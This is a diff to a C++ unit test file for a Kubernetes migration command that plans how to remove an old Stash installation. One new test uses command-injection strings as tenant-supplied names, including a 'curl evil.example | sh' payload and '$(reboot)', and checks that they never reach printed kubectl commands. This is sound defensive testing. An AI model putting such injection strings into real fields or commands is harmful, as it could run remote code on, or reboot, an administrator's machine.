@@ -1,7 +1,11 @@
 #include "cli/migrate.h"
 
-#include <catch2/catch.hpp>
+#include <fmt/format.h>
 
+#include <catch2/catch.hpp>
+#include <cstdlib>
+
+#include "unit/support/fake_kubectl.h"
 #include "unit/support/objects.h"
 #include "unit/support/workloads.h"
 
@@ -82,6 +86,28 @@ TEST_CASE("an old release of the name that ours is to have goes first", "[cli][m
   CHECK(migration.steps.back().commands == std::vector<std::string>{"kubectl delete clusterrole stash-sidecar"});
 }
 
+TEST_CASE("what a tenant wrote is in no command that an administrator may copy", "[cli][migrate]") {
+  Lists lists = an_old_installation();
+  lists["clusterroles"].push_back(named("appscode:stash:$(reboot)"));
+  for (const char* hostile : {"x; curl evil.example | sh #", "$(reboot)", "-n", "--kubeconfig=/tmp/x", "a b", "UP"}) {
+    CAPTURE(hostile);
+    lists["deployments"][0]["metadata"]["annotations"] = {{"meta.helm.sh/release-name", hostile}};
+    const Migration migration = plan_migration(lists);
+    for (const auto& step : migration.steps) {
+      for (const std::string& command : step.commands) {
+        CHECK_FALSE(command.contains("uninstall"));
+        CHECK_FALSE(command.contains("reboot"));
+      }
+    }
+    CHECK(migrate_report(migration)["steps"].back()["byHand"] ==
+          Json{"ClusterRoles above with an odd name: delete them, if you know what they are",
+               "Deployment kube-system/stash-operator: its Helm release has an odd name; uninstall it with --no-hooks, "
+               "if you know what it is"});
+    CHECK(
+        render_migration(migration, false).contains("\n    by hand: Deployment kube-system/stash-operator: its Helm"));
+  }
+}
+
 TEST_CASE("no step deletes a CustomResourceDefinition or an object of a user", "[cli][migrate]") {
   for (const auto& step : plan_migration(an_old_installation()).steps) {
     for (const std::string& command : step.commands) {
@@ -89,6 +115,30 @@ TEST_CASE("no step deletes a CustomResourceDefinition or an object of a user", "
       CHECK_FALSE(command.starts_with("kubectl delete crd"));
       CHECK_FALSE(command.contains("delete backupconfiguration"));
       CHECK_FALSE(command.contains("delete repositor"));
+    }
+  }
+}
+
+TEST_CASE("the command that deletes an old CronJob finds the images for which it is printed", "[cli][migrate]") {
+  for (const auto& [image, old] : {std::pair("appscode/stash:0.8", true),
+                                   {"docker.io/stashed/stash:v0.12", true},
+                                   {"registry.example.com/appscode/stash", true},
+                                   {"localhost/stash:dev", false}}) {
+    CAPTURE(image);
+    Json cron_job = {{"metadata", {{"name", "stash-backup-web"}, {"namespace", "demo"}}}};
+    cron_job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"] = Json::array({{{"image", image}}});
+    Lists lists = an_old_installation();
+    lists["cronjobs"] = Json::array({cron_job});
+    const auto commands = plan_migration(lists).steps.back().commands;
+    const auto command = std::ranges::find_if(
+        commands, [](const std::string& one) { return one.starts_with("kubectl get cronjob stash-backup-web"); });
+    CHECK((command != commands.end()) == old);
+    if (!old) continue;
+    // The controller may have made it ours by then, and then it must stay.
+    for (const auto& [now, deleted] : {std::pair(image, true), {"localhost/stash:dev", false}}) {
+      const FakeKubectl fake(fmt::format("case \"$*\" in get*) echo '{}';; esac", now));
+      (void)std::system(fmt::format("PATH={}:/usr/bin:/bin; {}", fake.directory(), *command).c_str());
+      CHECK(fake.calls().contains("delete cronjob stash-backup-web -n demo") == deleted);
     }
   }
 }
